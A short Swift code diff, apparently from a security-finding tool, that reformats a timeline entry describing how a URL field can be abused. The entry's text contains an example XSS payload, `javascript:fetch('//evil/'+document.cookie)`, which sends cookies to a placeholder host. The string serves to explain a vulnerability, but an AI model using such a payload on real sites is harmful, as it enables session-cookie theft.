@@ -91,7 +91,10 @@ private struct URLField {
                 """,
             span: first.span, evidence: evidence,
             timeline: [
-                Moment(.first, isSent ? "sets \(field) to `https://your-name.example.net/login`" : "sets \(field) to `javascript:fetch('//evil/'+document.cookie)`", evidence: evidence.firstIndex { $0.span == first.span } ?? 0),
+                Moment(
+                    .first,
+                    isSent ? "sets \(field) to `https://your-name.example.net/login`" : "sets \(field) to `javascript:fetch('//evil/'+document.cookie)`",
+                    evidence: evidence.firstIndex { $0.span == first.span } ?? 0),
                 Moment(
                     .second, isSent ? "follows a link to your address" : isShown ? "opens the page, and follows the link" : "opens a page that shows it",
                     evidence: evidence.lastIndex { $0.role == .effect } ?? evidence.count - 1),
